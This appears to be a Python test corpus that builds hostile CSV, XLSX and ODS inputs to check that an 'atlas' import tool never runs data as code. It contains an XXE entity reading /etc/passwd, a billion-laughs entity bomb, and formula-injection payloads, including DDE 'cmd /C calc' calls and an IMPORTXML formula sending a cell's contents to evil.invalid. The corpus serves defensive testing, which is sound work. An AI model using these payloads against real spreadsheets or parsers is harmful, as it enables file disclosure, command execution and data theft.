"""A hostile corpus for the `atlas` command (issue 8: data is never code).

Every case is an ``atlas`` command line, the files it reads (written into a folder of their own)
and the outcome it must have: hostile names and files are *shown* (literally, escaped) or
*refused* (one clear line, nothing changed), never run.

    python tests/hostile/corpus.py OUT        # write every case into OUT/<case id>/, list them

``cases()`` builds the list without writing anything (cheap: the test module parametrizes on it);
``write_corpus(folder)`` writes every case and returns the list; ``Case.write(folder)`` writes one.
Bombs are small files that expand only when read; the big ones are built when written.

Placeholders in ``argv``: ``{db}`` the case's database, ``{dir}`` the case's folder (also the
working directory), ``{item}`` the first open review-queue item of the database.

Expected outcomes (``expect``):

* ``imported`` — exit 0 and at least ``min_imported`` links or projects added; the database grew
  exactly as the ``--report`` says;
* ``ran`` — exit 0 (rows may be refused, ignored or queued, each reported); the database grew
  exactly as the report says;
* ``refused`` — exit 1 with one message line; database and input files unchanged;
* ``usage`` — exit 2 (argparse); the last line is the error; nothing changed;
* ``rejected`` — ``refused`` or ``usage``;
* ``clean`` — any of the above (the file may be read or refused, but cleanly);
* ``ok`` — exit 0 for a command that writes no database (map, export, stats, template…);
* ``interrupted`` — a signal during an import: nothing changed;
* ``pipe`` — stdout is a pipe whose reader is gone: exit 0 or 1 (or SIGPIPE's 141), at most one line.
"""

from __future__ import annotations

import csv
import io
import json
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Iterable, Iterator, Union

HERE = Path(__file__).resolve().parent
FIXTURES = HERE.parent / "fixtures" / "ingest"

HEADER = ["Collectivité", "Département", "Pays", "Collectivité partenaire", "Intitulé du projet", "Année de début",
          "Montant (€)", "ODD", "Latitude partenaire", "Longitude partenaire"]

#: Countries with a point well inside each (a capital), for partners placed by file coordinates.
#: (as written in the file, ISO alpha-2, latitude, longitude)
COUNTRIES: tuple[tuple[str, str, str, str], ...] = (
    ("Sénégal", "SN", "14.6937", "-17.4441"), ("Mali", "ML", "12.6392", "-8.0029"),
    ("Japon", "JP", "35.6895", "139.6917"), ("Allemagne", "DE", "52.5244", "13.4105"),
    ("Italie", "IT", "41.8919", "12.5113"), ("Espagne", "ES", "40.4165", "-3.7026"),
    ("Royaume-Uni", "GB", "51.5085", "-0.1257"), ("États-Unis", "US", "38.8951", "-77.0364"),
    ("Canada", "CA", "45.4112", "-75.6981"), ("Brésil", "BR", "-15.7797", "-47.9297"),
    ("Maroc", "MA", "34.0133", "-6.8326"), ("Tunisie", "TN", "36.8190", "10.1658"),
    ("Algérie", "DZ", "36.7525", "3.0420"), ("Burkina Faso", "BF", "12.3657", "-1.5339"),
    ("Niger", "NE", "13.5137", "2.1098"), ("Cameroun", "CM", "3.8667", "11.5167"),
    ("Madagascar", "MG", "-18.9137", "47.5361"), ("Vietnam", "VN", "21.0245", "105.8412"),
    ("Chine", "CN", "39.9075", "116.3972"), ("Inde", "IN", "28.6358", "77.2245"),
    ("Pologne", "PL", "52.2298", "21.0118"), ("Roumanie", "RO", "44.4323", "26.1063"),
    ("Portugal", "PT", "38.7167", "-9.1333"), ("Belgique", "BE", "50.8505", "4.3488"),
    ("Suisse", "CH", "46.9481", "7.4474"), ("Autriche", "AT", "48.2085", "16.3721"),
    ("Grèce", "GR", "37.9838", "23.7278"), ("Turquie", "TR", "39.9199", "32.8543"),
    ("Liban", "LB", "33.8933", "35.5016"), ("Mexique", "MX", "19.4285", "-99.1277"),
    ("Argentine", "AR", "-34.6131", "-58.3772"), ("Chili", "CL", "-33.4569", "-70.6483"),
    ("Pérou", "PE", "-12.0432", "-77.0282"), ("Colombie", "CO", "4.6097", "-74.0817"),
    ("Irlande", "IE", "53.3331", "-6.2489"), ("Pays-Bas", "NL", "52.3740", "4.8897"),
    ("Suède", "SE", "59.3326", "18.0649"), ("Norvège", "NO", "59.9127", "10.7461"),
    ("Hongrie", "HU", "47.4980", "19.0399"), ("Bulgarie", "BG", "42.6975", "23.3242"),
)

#: Strings whose presence in any output means that data was evaluated as code.
EVALUATED = ("Zork49Zork", "uid=", "<class '", "PWNED-42")
#: The first line of /etc/passwd: an external entity was resolved.
PASSWD = "root:x:0:0"


# ---- file-system objects other than bytes --------------------------------------------------

@dataclass(frozen=True)
class Folder:
    """A folder (with that name: e.g. a folder named x.csv)."""


@dataclass(frozen=True)
class Fifo:
    """A named pipe with no writer: reading it would block forever."""


@dataclass(frozen=True)
class Symlink:
    target: str  # relative to the case folder, or absolute


@dataclass(frozen=True)
class DbPrefix:
    """The first ``size`` bytes of the test database (a truncated atlas database)."""

    size: int


@dataclass(frozen=True)
class BigImport:
    """A pair list long enough to interrupt its import (built from the test database)."""

    rows: int = 40_000


Content = Union[bytes, str, Callable[[], bytes], Callable[[Path], None], Folder, Fifo, Symlink, DbPrefix, BigImport]


@dataclass
class Followup:
    """A command run after the case (same database) whose stdout must show ``literal`` as is."""

    argv: list[str]
    literal: str | None = None
    code: int = 0


@dataclass
class Case:
    id: str
    category: str
    argv: list[str]
    expect: str
    files: dict[str, Content] = field(default_factory=dict)
    #: database group: cases of one group share one database copy, in order (in-process cases)
    group: str = "main"
    #: inproc (atlas.cli.main in the test process), fork (a child process under a memory cap),
    #: fresh (a new interpreter), pipe (stdout is a pipe closed early), signal (killed mid-import)
    mode: str = "inproc"
    env: dict[str, str] = field(default_factory=dict)
    #: a name expected in the database exactly as written, then shown literally by map and export
    literal: str | None = None
    #: True: the literal must be imported; False: it may be refused (then nothing is drawn)
    literal_required: bool = True
    #: exact title expected in the projects table after the import
    title: str | None = None
    #: ISO alpha-2 of the partner's country (filters of the map and export checks)
    country: str | None = None
    #: extra outputs to draw: "png", "svg" (print maps: mathtext)
    render: tuple[str, ...] = ()
    #: exports are checked too (False for formula names, whose CSV export may be defused)
    check_export: bool = True
    #: also export to XLSX: no cell of the workbook may be a formula
    export_xlsx: bool = False
    #: a command other than import that may change the database when it succeeds (review decisions)
    writes_db: bool = False
    #: strings that must not appear in any output (besides EVALUATED)
    forbidden: tuple[str, ...] = ()
    #: a file that running the data as code would create (relative to the case folder)
    marker: str | None = None
    #: the report must name row 2 (an error or a warning): the value was not silently taken
    must_report: bool = False
    min_imported: int = 1
    followups: list[Followup] = field(default_factory=list)
    #: output file that must exist after exit 0 (relative to the case folder)
    output: str | None = None
    #: strings the output file must contain literally once unescaped (HTML maps)
    output_literal: tuple[str, ...] = ()
    timeout: float = 150.0
    signal: int | None = None
    note: str = ""

    def needs_database(self) -> bool:
        """True when a file is built from the test database (DbPrefix, BigImport)."""
        return any(isinstance(v, (DbPrefix, BigImport)) for v in self.files.values())

    def write(self, folder: Path, base_db: Path | None = None,
              big_import: Callable[[Path, int], None] | None = None) -> Path:
        """Write this case's files into ``folder`` (created); returns it.

        ``{dir}`` in text contents becomes the folder. ``base_db`` (a reference database) and
        ``big_import(path, rows)`` are needed only by cases with DbPrefix or BigImport files.
        """
        folder.mkdir(parents=True, exist_ok=True)
        for name, content in self.files.items():
            path = folder / name
            if isinstance(content, DbPrefix):
                if base_db is None:
                    raise ValueError(f"{self.id}: a truncated database needs base_db")
                with open(base_db, "rb") as fh:
                    path.write_bytes(fh.read(content.size))
            elif isinstance(content, BigImport):
                if big_import is None:
                    raise ValueError(f"{self.id}: a big import file needs big_import")
                big_import(path, content.rows)
            elif isinstance(content, Folder):
                path.mkdir(parents=True, exist_ok=True)
            elif isinstance(content, Fifo):
                import os

                os.mkfifo(path)
            elif isinstance(content, Symlink):
                path.symlink_to(content.target)
            elif isinstance(content, str):
                path.write_text(content.replace("{dir}", str(folder)), encoding="utf-8")
            elif isinstance(content, bytes):
                path.write_bytes(content)
            elif callable(content):
                if getattr(content, "writes_path", False):
                    content(path)  # type: ignore[call-arg]
                else:
                    path.write_bytes(content())  # type: ignore[call-arg]
            else:  # pragma: no cover - a corpus bug
                raise TypeError(f"{self.id}: cannot write {name!r} ({type(content)})")
        return folder


def writes_path(fn: Callable[[Path], None]) -> Callable[[Path], None]:
    """Mark a builder that writes its file itself (big files are streamed, never held in memory)."""
    fn.writes_path = True  # type: ignore[attr-defined]
    return fn


# ---- CSV building ---------------------------------------------------------------------------

def row(cid: str, fr: str = "Toulouse", dep: str = "31", country: str = "Sénégal", partner: str = "Dakar",
        title: str | None = None, year: str = "2019", amount: str = "", sdg: str = "", lat: str = "",
        lon: str = "") -> list[str]:
    """One project-table row; the title defaults to one unique to the case."""
    return [fr, dep, country, partner, f"Projet {cid}" if title is None else title, year, amount, sdg, lat, lon]


def table(rows: Iterable[list[str]], header: list[str] | None = None, delimiter: str = ";",
          newline: str = "\n") -> str:
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=delimiter, lineterminator=newline)
    w.writerow(HEADER if header is None else header)
    w.writerows(rows)
    return buf.getvalue()


def project_csv(cid: str, encoding: str = "utf-8", **kw: str) -> bytes:
    return table([row(cid, **kw)]).encode(encoding)


# ---- XLSX and ODS built by hand -------------------------------------------------------------

NS_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
NS_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NS_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"

CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                 '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                 '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                 '<Default Extension="xml" ContentType="application/xml"/>'
                 '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                 'spreadsheetml.sheet.main+xml"/>'
                 '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
                 'officedocument.spreadsheetml.worksheet+xml"/>'
                 '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                 'officedocument.spreadsheetml.sharedStrings+xml"/>'
                 '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                 'spreadsheetml.styles+xml"/></Types>')
ROOT_RELS = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{NS_PKG}">'
             f'<Relationship Id="rId1" Type="{NS_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
WORKBOOK = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="{NS_MAIN}" xmlns:r="{NS_REL}">'
            '<sheets><sheet name="Projets" sheetId="1" r:id="rId1"/></sheets></workbook>')
WORKBOOK_RELS = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{NS_PKG}">'
                 f'<Relationship Id="rId1" Type="{NS_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
                 f'<Relationship Id="rId2" Type="{NS_REL}/sharedStrings" Target="sharedStrings.xml"/>'
                 f'<Relationship Id="rId3" Type="{NS_REL}/styles" Target="styles.xml"/></Relationships>')
STYLES = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<styleSheet xmlns="{NS_MAIN}">'
          '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
          '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
          '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
          '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
          '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
          '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
          '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>')

LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
          + "]>")
XXE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def col_letter(n: int) -> str:
    s = ""
    n += 1
    while n:
        n, r = divmod(n - 1, 26)
        s = chr(65 + r) + s
    return s


def xml_text(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


@dataclass(frozen=True)
class Formula:
    """A formula cell, with the value the spreadsheet computed (None: never computed)."""

    formula: str
    cached: str | None = None


@dataclass(frozen=True)
class Raw:
    """A cell written as given (raw XML inside <c>)."""

    attrs: str
    inner: str


def sheet_xml(rows: list[list[object]], dimension: str | None = None, doctype: str = "", shared: bool = True,
              tail: str = "") -> tuple[str, list[str]]:
    """(worksheet XML, shared strings) of rows of str / Formula / Raw cells."""
    strings: list[str] = []
    index: dict[str, int] = {}
    out = []
    for i, r in enumerate(rows, 1):
        cells = []
        for j, v in enumerate(r):
            ref = f"{col_letter(j)}{i}"
            if isinstance(v, Formula):
                cached = f"<v>{xml_text(v.cached)}</v>" if v.cached is not None else ""
                cells.append(f'<c r="{ref}" t="str"><f>{xml_text(v.formula)}</f>{cached}</c>')
            elif isinstance(v, Raw):
                cells.append(f'<c r="{ref}" {v.attrs}>{v.inner}</c>')
            elif v == "" or v is None:
                continue
            elif shared:
                k = index.setdefault(str(v), len(strings))
                if k == len(strings):
                    strings.append(str(v))
                cells.append(f'<c r="{ref}" t="s"><v>{k}</v></c>')
            else:
                cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{xml_text(str(v))}</t></is></c>')
        out.append(f'<row r="{i}">{"".join(cells)}</row>')
    width = max((len(r) for r in rows), default=1)
    dim = dimension or f"A1:{col_letter(width - 1)}{max(len(rows), 1)}"
    xml = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{doctype}<worksheet xmlns="{NS_MAIN}">'
           f'<dimension ref="{dim}"/><sheetData>{"".join(out)}{tail}</sheetData></worksheet>')
    return xml, strings


def sst_xml(strings: list[str], doctype: str = "", extra: str = "") -> str:
    items = "".join(f"<si><t>{xml_text(s)}</t></si>" for s in strings)
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{doctype}<sst xmlns="{NS_MAIN}" '
            f'count="{len(strings)}" uniqueCount="{len(strings)}">{items}{extra}</sst>')


def zip_parts(parts: dict[str, str | bytes | Callable[[], Iterator[bytes]]], first_stored: str | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        if first_stored is not None:
            zf.writestr(zipfile.ZipInfo(first_stored), parts[first_stored], compress_type=zipfile.ZIP_STORED)
        for name, data in parts.items():
            if name == first_stored:
                continue
            if callable(data):
                with zf.open(name, "w", force_zip64=True) as fh:
                    for chunk in data():
                        fh.write(chunk)
            else:
                zf.writestr(name, data)
    return buf.getvalue()


def xlsx_parts(rows: list[list[object]], *, dimension: str | None = None, shared: bool = True,
               sheet_doctype: str = "", sst_doctype: str = "", tail: str = "") -> dict[str, str | bytes]:
    sheet, strings = sheet_xml(rows, dimension, sheet_doctype, shared, tail)
    return {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": ROOT_RELS, "xl/workbook.xml": WORKBOOK,
            "xl/_rels/workbook.xml.rels": WORKBOOK_RELS, "xl/styles.xml": STYLES,
            "xl/sharedStrings.xml": sst_xml(strings, sst_doctype), "xl/worksheets/sheet1.xml": sheet}


def xlsx(rows: list[list[object]], **kw: object) -> bytes:
    return zip_parts(xlsx_parts(rows, **kw))  # type: ignore[arg-type]


def xlsx_rows(cid: str, **kw: str) -> list[list[object]]:
    return [list(HEADER), list(row(cid, **kw))]


ODS_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"')
ODS_MANIFEST = ('<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                'opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
                'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
                'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')


def ods_cell(v: str, attrs: str = "") -> str:
    if v == "":
        return f"<table:table-cell{attrs}/>"
    return f'<table:table-cell office:value-type="string"{attrs}><text:p>{xml_text(v)}</text:p></table:table-cell>'


def ods_content(rows: list[list[str]], extra_rows: str = "", doctype: str = "") -> str:
    body = "".join("<table:table-row>" + "".join(ods_cell(v) for v in r) + "</table:table-row>" for r in rows)
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}<office:document-content {ODS_NS} office:version="1.2">'
            f'<office:body><office:spreadsheet><table:table table:name="Projets">{body}{extra_rows}'
            '</table:table></office:spreadsheet></office:body></office:document-content>')


def ods(content: str | None, manifest: bool = True, mimetype: bool = True) -> bytes:
    parts: dict[str, str | bytes] = {}
    if mimetype:
        parts["mimetype"] = "application/vnd.oasis.opendocument.spreadsheet"
    if manifest:
        parts["META-INF/manifest.xml"] = ODS_MANIFEST
    if content is not None:
        parts["content.xml"] = content
    return zip_parts(parts, first_stored="mimetype" if mimetype else None)  # type: ignore[arg-type]


def ods_rows(cid: str, **kw: str) -> list[list[str]]:
    return [list(HEADER), row(cid, **kw)]


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def truncated(data: Callable[[], bytes], fraction: float | None = None, keep: int | None = None) -> Callable[[], bytes]:
    def build() -> bytes:
        b = data()
        n = keep if keep is not None else int(len(b) * (fraction or 0))
        return b[:n]
    return build


def flip_byte(data: bytes, member: str) -> bytes:
    """Damage the compressed data of one member (its CRC no longer matches)."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo(member)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    b = bytearray(data)
    mid = start + info.compress_size // 2
    b[mid] ^= 0xFF
    return bytes(b)


def mark_encrypted(data: bytes, member: str) -> bytes:
    """Set the 'encrypted' flag of a member in its local header and the central directory."""
    b = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo(member)
    b[info.header_offset + 6] |= 0x01
    name = member.encode()
    pos = b.find(b"PK\x01\x02")
    while pos != -1:
        n = struct.unpack("<H", b[pos + 28:pos + 30])[0]
        if bytes(b[pos + 46:pos + 46 + n]) == name:
            b[pos + 8] |= 0x01
        pos = b.find(b"PK\x01\x02", pos + 4)
    return bytes(b)


def repeated(chunk: bytes, total: int) -> Callable[[], Iterator[bytes]]:
    def gen() -> Iterator[bytes]:
        left = total
        while left > 0:
            piece = chunk[:left]
            left -= len(piece)
            yield piece
    return gen


# ---- the corpus -----------------------------------------------------------------------------

def cases() -> list[Case]:
    """Every case (nothing written)."""
    out: list[Case] = []
    for build in (_encodings, _delimiters, _formulas, _markup, _templates, _formats, _absurd, _bombs, _damaged,
                  _paths, _cli, _review, _review_names, _processes):
        out.extend(build())
    ids = [c.id for c in out]
    dupes = {i for i in ids if ids.count(i) > 1}
    assert not dupes, f"duplicate case ids: {sorted(dupes)}"
    return out


def write_corpus(folder: str | Path) -> list[Case]:
    """Write every case into ``folder``/<case id>/ and return the cases."""
    folder = Path(folder)
    all_cases = cases()
    for c in all_cases:
        if not c.needs_database():
            c.write(folder / c.id)
    return all_cases


def imp(file: str, *extra: str) -> list[str]:
    return ["import", "{dir}/" + file, "--db", "{db}", *extra]


def _encodings() -> list[Case]:
    g, cat = "encodings", "encoding"
    cs: list[Case] = []
    title = "Coopération été"

    def add(cid: str, data: bytes | Callable[[], bytes], expect: str, *extra: str, title_: str | None = None,
            name: str = "f.csv", note: str = "") -> None:
        cs.append(Case(cid, cat, imp(name, *extra), expect, {name: data}, group=g, title=title_, note=note))

    def text(cid: str, t: str = title) -> str:
        return table([row(cid, title=f"{t} {cid}")])

    add("enc-utf8", text("enc-utf8").encode(), "imported", title_=f"{title} enc-utf8")
    add("enc-utf8-bom", b"\xef\xbb\xbf" + text("enc-utf8-bom").encode(), "imported", title_=f"{title} enc-utf8-bom")
    add("enc-utf8-bom-twice", b"\xef\xbb\xbf\xef\xbb\xbf" + text("enc-utf8-bom-twice").encode(), "clean")
    add("enc-utf16le-bom", b"\xff\xfe" + text("enc-utf16le-bom").encode("utf-16-le"), "imported",
        title_=f"{title} enc-utf16le-bom")
    add("enc-utf16be-bom", b"\xfe\xff" + text("enc-utf16be-bom").encode("utf-16-be"), "imported",
        title_=f"{title} enc-utf16be-bom")
    add("enc-utf16le-crlf-bom", b"\xff\xfe" + table([row("enc-utf16le-crlf-bom", title=f"{title} crlf")],
                                                    newline="\r\n").encode("utf-16-le"), "imported",
        title_=f"{title} crlf", note="what Excel's 'Unicode text' writes, with ;")
    add("enc-utf16le-nobom", text("enc-utf16le-nobom").encode("utf-16-le"), "clean",
        note="NUL bytes every other byte: UTF-16 without BOM (read it or refuse it cleanly)")
    add("enc-utf16be-nobom", text("enc-utf16be-nobom").encode("utf-16-be"), "clean")
    add("enc-utf16le-odd-length", b"\xff\xfe" + text("enc-utf16le-odd-length").encode("utf-16-le") + b"A", "clean",
        note="UTF-16 with a BOM and an odd number of bytes (truncated)")
    add("enc-utf16le-truncated-mid", (b"\xff\xfe" + text("enc-utf16le-truncated-mid").encode("utf-16-le"))[:201],
        "clean")
    add("enc-utf16le-lone-high-surrogate",
        b"\xff\xfe" + text("enc-utf16le-lone-high-surrogate").encode("utf-16-le")[:-2] + b"\x00\xd8" + b"\n\x00",
        "clean", note="a high surrogate not followed by a low one")
    add("enc-utf16be-lone-low-surrogate",
        b"\xfe\xff" + text("enc-utf16be-lone-low-surrogate").encode("utf-16-be") + b"\xdc\x00\x00\n", "clean")
    add("enc-utf16-bom-then-utf8", b"\xff\xfe" + text("enc-utf16-bom-then-utf8").encode("utf-8"), "clean",
        note="a UTF-16 BOM in front of UTF-8 bytes")
    add("enc-utf16le-nul-char", b"\xff\xfe" + text("enc-utf16le-nul-char", "Coop\x00ération").encode("utf-16-le"),
        "clean", note="a U+0000 inside a UTF-16 cell")
    add("enc-utf32le-bom", b"\xff\xfe\x00\x00" + text("enc-utf32le-bom").encode("utf-32-le"), "clean")
    add("enc-utf32be-bom", b"\x00\x00\xfe\xff" + text("enc-utf32be-bom").encode("utf-32-be"), "clean")
    add("enc-latin1", table([row("enc-latin1", title="Coopération été ÿ × ½ enc-latin1")],
                            header=[h.replace(" (€)", "") for h in HEADER]).encode("latin-1"), "imported",
        title_="Coopération été ÿ × ½ enc-latin1")
    add("enc-cp1252", text("enc-cp1252", "Œuvre du cœur – 5 € ’").encode("cp1252"), "imported",
        title_="Œuvre du cœur – 5 € ’ enc-cp1252")
    add("enc-cp1252-undefined-bytes", text("enc-cp1252-undefined-bytes", "été").encode("cp1252")
        .replace(b"\xe9t\xe9", b"\xe9\x81\x8d\x8f\x90\x9d"), "ran",
        note="bytes Windows-1252 leaves undefined (Latin-1 controls)")
    add("enc-mixed-utf8-cp1252",
        text("enc-mixed-utf8-cp1252").encode("utf-8") + table([row("enc-mixed-2", title="Déjà vu")])
        .split("\n", 1)[1].encode("cp1252"), "clean", note="a UTF-8 file with one Windows-1252 row")
    add("enc-mixed-utf16-line", text("enc-mixed-utf16-line").encode() + "Rennes;35;Japon;Sendai;x;2018\n"
        .encode("utf-16-le"), "clean", note="a UTF-16 line inside a UTF-8 file")
    add("enc-nul-in-cell", text("enc-nul-in-cell", "Coop\x00ération").encode(), "clean")
    add("enc-nul-after-64k",
        (table([row(f"enc-nul-after-64k-{i}", title="x" * 60) for i in range(1200)]) + "a\x00b\n").encode(),
        "clean", note="a NUL byte beyond the first 64 KiB")
    add("enc-only-nul", b"\x00" * 4096, "refused")
    add("enc-bom-only", b"\xef\xbb\xbf", "refused")
    add("enc-utf16-bom-only", b"\xff\xfe", "refused")
    add("enc-control-chars", text("enc-control-chars").encode().replace(b"Dakar", b"\x01\x02\x03\x04Dakar\x05\x06\x07"
                                                                        b"\x08\x0b\x0c\x0e\x0f\x10\x11\x12"), "clean")
    add("enc-cr-only", table([row("enc-cr-only", title=f"{title} cr")], newline="\r").encode(), "imported",
        title_=f"{title} cr", note="old Mac line ends")
    add("enc-crlf", table([row("enc-crlf", title=f"{title} enc-crlf")], newline="\r\n").encode(), "imported",
        title_=f"{title} enc-crlf")
    add("enc-mixed-newlines", (";".join(HEADER) + "\r\n" + ";".join(row("enc-mixed-newlines-a")) + "\r"
                               + ";".join(row("enc-mixed-newlines-b", partner="Thiès")) + "\n").encode(), "imported")
    add("enc-unicode-line-separators", table([row("enc-uls", title="Coop\u2028ération\u2029été\x85x")]).encode(),
        "clean", note="U+2028, U+2029 and NEL inside a cell")
    add("enc-utf8-overlong", text("enc-utf8-overlong").encode().replace(b"Dakar", b"Dak\xc0\xafar"), "clean")
    add("enc-utf8-encoded-surrogate", text("enc-utf8-encoded-surrogate").encode().replace(b"Dakar", b"Dakar\xed\xa0\x80"),
        "clean")
    add("enc-emoji", text("enc-emoji", "Projet 🌍🤝 été").encode(), "imported", title_="Projet 🌍🤝 été enc-emoji")
    add("enc-nfd", table([row("enc-nfd", country="Se\u0301ne\u0301gal", title="Coope\u0301ration NFD")]).encode(),
        "ran", note="decomposed accents (NFD) in the country and the title")
    add("enc-explicit-wrong", text("enc-explicit-wrong").encode(), "clean", "--encoding", "utf-16")
    add("enc-explicit-unknown", text("enc-explicit-unknown").encode(), "rejected", "--encoding", "klingon")
    add("enc-explicit-rot13", text("enc-explicit-rot13").encode(), "rejected", "--encoding", "rot13",
        note="a str-to-str codec")
    add("enc-explicit-hex", text("enc-explicit-hex").encode(), "rejected", "--encoding", "hex")
    add("enc-explicit-utf32", text("enc-explicit-utf32").encode(), "rejected", "--encoding", "utf-32")
    add("enc-explicit-empty", text("enc-explicit-empty").encode(), "clean", "--encoding", "")
    add("enc-explicit-latin1-on-utf8", text("enc-explicit-latin1-on-utf8").encode(), "clean", "--encoding", "latin-1",
        note="the user forces the wrong encoding: mojibake headers may be refused")
    add("enc-explicit-latin1-on-utf16", b"\xff\xfe" + text("enc-explicit-latin1-on-utf16").encode("utf-16-le"),
        "clean", "--encoding", "latin-1")
    return cs


def _delimiters() -> list[Case]:
    g, cat = "delimiters", "delimiter"
    cs: list[Case] = []

    def add(cid: str, data: str | bytes, expect: str, *extra: str, title: str | None = None, note: str = "") -> None:
        cs.append(Case(cid, cat, imp("f.csv", *extra), expect, {"f.csv": data}, group=g, title=title, note=note))

    for cid, d in (("delim-semicolon", ";"), ("delim-comma", ","), ("delim-tab", "\t"), ("delim-pipe", "|")):
        add(cid, table([row(cid, title=f"Projet, {cid}; x")], delimiter=d), "imported", title=f"Projet, {cid}; x")
    add("delim-mixed-header-rows", ";".join(HEADER) + "\n" + ",".join(row("delim-mixed-header-rows")) + "\n", "clean")
    add("delim-mixed-rows", table([row("delim-mixed-rows-a")]) + ",".join(row("delim-mixed-rows-b")) + "\n"
        + "|".join(row("delim-mixed-rows-c")) + "\n", "clean")
    base = table([row("delim-opt")])
    add("delim-opt-double", base, "rejected", "--delimiter", ";;")
    add("delim-opt-empty", table([row("delim-opt-empty")]), "clean", "--delimiter", "")
    add("delim-opt-newline", base, "clean", "--delimiter", "\n")
    add("delim-opt-quote", base, "clean", "--delimiter", '"')
    add("delim-opt-space", base, "clean", "--delimiter", " ")
    add("delim-opt-backslash-t", base, "rejected", "--delimiter", "\\t")
    add("delim-opt-wrong", base, "refused", "--delimiter", ",")
    add("delim-opt-letter", base, "clean", "--delimiter", "é")
    add("delim-opt-long", base, "rejected", "--delimiter", ";" * 5000)
    add("delim-none", "\n".join(["Toulouse Dakar Sénégal"] * 5) + "\n", "refused", note="one column, no header")
    add("delim-unbalanced-quote", ";".join(HEADER) + "\n" + '"Toulouse;31;Sénégal;Dakar;Projet;2019;;;;\n'
        + ";".join(row("delim-unbalanced-quote")) + "\n", "clean")
    add("delim-10000-columns", table([row("delim-10000-columns") + [""] * 10000]), "clean")
    add("delim-quoted-delimiter", table([row("delim-quoted-delimiter", partner="Dakar;Thiès",
                                             title="Projet; avec \"guillemets\"")]), "ran")
    add("delim-blank-lines", table([row("delim-blank-lines-a"), [""] * 10, [], row("delim-blank-lines-b", partner="Thiès")]),
        "imported")
    add("delim-header-twice", table([HEADER, row("delim-header-twice")]), "ran",
        note="the header row repeated as a data row")
    return cs


FORMULAS = (
    ("hyperlink", '=HYPERLINK("http://evil.invalid","clic")'),
    ("dde-cmd", "=cmd|' /C calc'!A0"),
    ("plus", "+1+1"),
    ("minus", "-1+1"),
    ("at-sum", "@SUM(1+1)"),
    ("eq", "=1+1"),
    ("dde", '=DDE("cmd";"/C calc";"A0")'),
    ("importxml", '=IMPORTXML(CONCAT("http://evil.invalid/?",A1),"//a")'),
    ("quoted", "'=1+1"),
    ("minus-cmd", "-2+3+cmd|' /C calc'!A0"),
)


def _formulas() -> list[Case]:
    g, cat = "formulas", "formula"
    cs: list[Case] = []
    # A cell starting with "=" is a spreadsheet formula whose value the file does not hold: its
    # row is refused with the reason (docs/import.md). Other leading signs (+ - @ ') are text.
    for i, (k, f) in enumerate(FORMULAS):
        cid = f"formula-title-{k}"
        # one start year per case: project ids fold punctuation ('+1+1' and '-1+1' are one key)
        if f.startswith("="):
            cs.append(Case(cid, cat, imp("f.csv"), "ran", {"f.csv": table([row(cid, title=f, year=str(2001 + i))])},
                           group=g, must_report=True, note="a formula as a title: the row is refused, with the reason"))
            continue
        cs.append(Case(cid, cat, imp("f.csv"), "imported", {"f.csv": table([row(cid, title=f, year=str(2001 + i))])},
                       group=g, title=f,
                       note="text that starts with + - @ or ' as a title: imported as literal text"))
